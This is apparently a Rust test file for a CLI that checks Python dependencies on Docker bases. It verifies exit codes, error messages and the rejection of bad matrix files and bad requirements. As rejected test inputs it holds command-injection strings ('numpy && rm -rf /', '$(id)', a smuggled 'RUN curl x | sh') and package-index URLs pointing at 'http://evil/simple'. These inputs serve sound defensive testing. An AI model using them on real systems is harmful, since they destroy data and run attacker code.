//! The command line as a process: help, and bad input refused with exit 2 before the engine is
//! contacted (DOCKER_HOST points at nothing, so reaching it would give 3), and an unreachable
//! engine giving 3 quickly with one clear message.

use std::time::{Duration, Instant};

use predicates::prelude::*;

use crate::common::*;

const NOWHERE: &str = "unix:///nonexistent/muslcheck-test.sock";

fn offline() -> assert_cmd::Command {
    let mut c = bin();
    c.env("DOCKER_HOST", NOWHERE).current_dir(root());
    c
}

#[test]
fn help_explains_commands_and_exit_codes() {
    let out = bin().arg("--help").assert().success().get_output().stdout.clone();
    insta::assert_snapshot!("help", String::from_utf8_lossy(&out));
    let out = bin().args(["gate", "--help"]).assert().success().get_output().stdout.clone();
    insta::assert_snapshot!("gate_help", String::from_utf8_lossy(&out));
}

#[test]
fn an_unreachable_engine_exits_3_fast_with_one_clear_message() {
    for args in [
        vec!["run", "--matrix", "tests/fixtures/small.toml"],
        vec!["gate", "six", "--matrix", "tests/fixtures/small.toml"],
        vec!["doctor", "--matrix", "tests/fixtures/small.toml"],
        vec!["clean"],
    ] {
        let start = Instant::now();
        offline()
            .args(&args)
            .assert()
            .code(3)
            .stderr(predicate::str::contains("cannot reach the Docker engine"))
            .stderr(predicate::str::contains(format!("DOCKER_HOST={NOWHERE}")))
            .stderr(predicate::str::contains("panicked").not());
        assert!(start.elapsed() < Duration::from_secs(2), "{args:?} took {:?}", start.elapsed());
    }
}

fn write(dir: &std::path::Path, name: &str, text: &str) -> String {
    let p = dir.join(name);
    std::fs::write(&p, text).unwrap();
    p.display().to_string()
}

#[test]
fn bad_matrices_are_refused_with_file_line_and_column() {
    let d = tempfile::tempdir().unwrap();
    let cases = [
        ("truncated.toml", "[[base]]\nname = \"a\nimage = \"x\"\n", ":2:"),
        ("unknown-key.toml", "[[base]]\nname = \"a\"\nimage = \"x\"\nimgae = \"y\"\n", ":4:1: unknown field `imgae`"),
        ("wrong-type.toml", "[[base]]\nname = \"a\"\nimage = \"x\"\nrequired = \"yes\"\n", ":4:"),
        ("duplicate.toml", "[[base]]\nname = \"a\"\nimage = \"x\"\n[[base]]\nname = \"a\"\nimage = \"y\"\n[[dependency]]\nrequirement = \"six\"\n", ":5:8: duplicate base name `a`"),
        ("empty.toml", "", ":1:1: the matrix names no base"),
        ("smuggled.toml", "[[base]]\nname = \"a\"\nimage = \"x\"\n[[dependency]]\nrequirement = \"six\\nRUN curl x | sh\"\n", ":5:15: `requirement`: requirement contains a control character"),
        ("no-deps.toml", "[[base]]\nname = \"a\"\nimage = \"x\"\n", "names no dependency"),
    ];
    for (name, text, expected) in cases {
        let path = write(d.path(), name, text);
        offline()
            .args(["run", "--matrix", &path])
            .assert()
            .code(2)
            .stderr(predicate::str::contains(expected))
            .stderr(predicate::str::contains("panicked").not());
    }
    // Several problems in one file are all reported.
    let path = write(d.path(), "many.toml", "[policy]\nsource_builds = \"maybe\"\n[[base]]\nname = \"a b\"\nimage = \"x\"\n[[dependency]]\nrequirement = \"$(id)\"\n");
    let out = offline().args(["run", "--matrix", &path]).assert().code(2).get_output().stderr.clone();
    let err = String::from_utf8_lossy(&out);
    assert_eq!(err.matches(&path).count(), 3, "{err}");
}

#[test]
fn bad_requirements_and_arguments_are_refused_before_the_engine() {
    for req in [
        "numpy && rm -rf /",
        "numpy; echo $(id)",
        "six`id`",
        "--index-url=http://evil/simple",
        "pkg @ https://example.com/p.whl",
        "num py",
        "six\nRUN id",
    ] {
        offline()
            .args(["gate", "--matrix", "tests/fixtures/small.toml", "--", req])
            .assert()
            .code(2)
            .stderr(predicate::str::contains("invalid requirement"));
    }
    let d = tempfile::tempdir().unwrap();
    let reqs =
        write(d.path(), "requirements.txt", "six\n--extra-index-url http://evil/simple\nfoo @ https://x/y.whl\n");
    offline()
        .args(["gate", "-r", &reqs, "--matrix", "tests/fixtures/small.toml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("requirements.txt:2: `--extra-index-url` would switch the package index"))
        .stderr(predicate::str::contains("configure it instead with --index-url"))
        .stderr(predicate::str::contains("requirements.txt:3: direct URL requirements are not supported"));
    offline()
        .args(["run", "--matrix", "tests/fixtures/small.toml", "--only", "nope"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("unknown dependency `nope`"));
    offline()
        .args(["run", "--matrix", "tests/fixtures/small.toml", "--base", "alpine"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("unknown base `alpine`"));
    offline()
        .args(["run", "--matrix", "no/such/file.toml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("failed to read the matrix"));
    offline()
        .args(["gate", "six", "--matrix", "tests/fixtures/small.toml", "--ca-bundle", "/no/such/ca.pem"])
        .assert()
        .code(2);
    offline()
        .args(["gate", "--matrix", "tests/fixtures/small.toml"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("at least one requirement"));
    offline().args(["frobnicate"]).assert().code(2);
}

/// Every `muslcheck` command of the README's CI recipes parses: the subcommands and flags exist.
#[test]
fn the_readme_ci_recipes_use_commands_and_flags_that_exist() {
    let readme = std::fs::read_to_string(root().join("README.md")).unwrap();
    let section =
        readme.split("## CI recipes").nth(1).and_then(|s| s.split("\n## ").next()).expect("a CI recipes section");
    let mut checked = 0;
    for line in section.lines() {
        let Some(cmd) = line.split("run: ").nth(1).filter(|c| c.starts_with("muslcheck ")) else { continue };
        // The command itself, without the shell around it, with workflow expressions filled in.
        let cmd = cmd.split(" || ").next().unwrap().split(" >> ").next().unwrap().replace("${{ matrix.shard }}", "1");
        let args: Vec<&str> = cmd.split_whitespace().skip(1).collect();
        bin().args(&args).arg("--help").assert().success();
        checked += 1;
    }
    assert!(checked >= 5, "only {checked} commands found in the recipes");
}

/// The shipped matrices validate (their smoke scripts exist, inside the matrix directory).
#[test]
fn the_shipped_matrices_are_valid() {
    for m in ["matrix/default.toml", "matrix/local.toml", "matrix/ml.toml"] {
        // `doctor` validates before it contacts the engine: a bad matrix is exit 2 either way.
        let out = bin()
            .args(["doctor", "--matrix", m])
            .env("DOCKER_HOST", "unix:///nonexistent/muslcheck-test.sock")
            .current_dir(root())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(3), "{m}: {}", String::from_utf8_lossy(&out.stderr));
    }
}

#[test]
fn a_selection_that_can_block_nothing_or_compare_nothing_is_refused_before_the_engine() {
    offline()
        .args(["run", "--matrix", "tests/fixtures/small.toml", "--base", "musl"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("--base selects one base (musl)"));
    let d = tempfile::tempdir().unwrap();
    let m = write(
        d.path(),
        "m.toml",
        "[[base]]\nname = \"glibc\"\nimage = \"g\"\n\n[[base]]\nname = \"musl\"\nimage = \"m\"\nrequired = false\n\n[[base]]\nname = \"musl2\"\nimage = \"m2\"\nrequired = false\n\n[[dependency]]\nrequirement = \"six\"\n",
    );
    for cmd in [&["run"][..], &["gate", "six"][..]] {
        offline()
            .args(cmd)
            .args(["--matrix", &m, "--base", "musl", "--base", "musl2"])
            .assert()
            .code(2)
            .stderr(predicate::str::contains("--base selects no required base (musl, musl2)"));
    }
    // An empty smoke script runs nothing and would pass everywhere: refused where it is named.
    write(d.path(), "empty.py", " \n\n");
    let m = write(
        d.path(),
        "smoke.toml",
        "[[base]]\nname = \"glibc\"\nimage = \"g\"\n\n[[base]]\nname = \"musl\"\nimage = \"m\"\n\n[[dependency]]\nrequirement = \"six\"\nsmoke = \"empty.py\"\n",
    );
    offline()
        .args(["run", "--matrix", &m])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("smoke.toml:11:9: `smoke`:").and(predicate::str::contains("is empty")));
    let empty = d.path().join("empty.py");
    offline()
        .args(["gate", "six", "--matrix", "tests/fixtures/small.toml", "--smoke"])
        .arg(&empty)
        .assert()
        .code(2)
        .stderr(predicate::str::contains("is empty"));
}
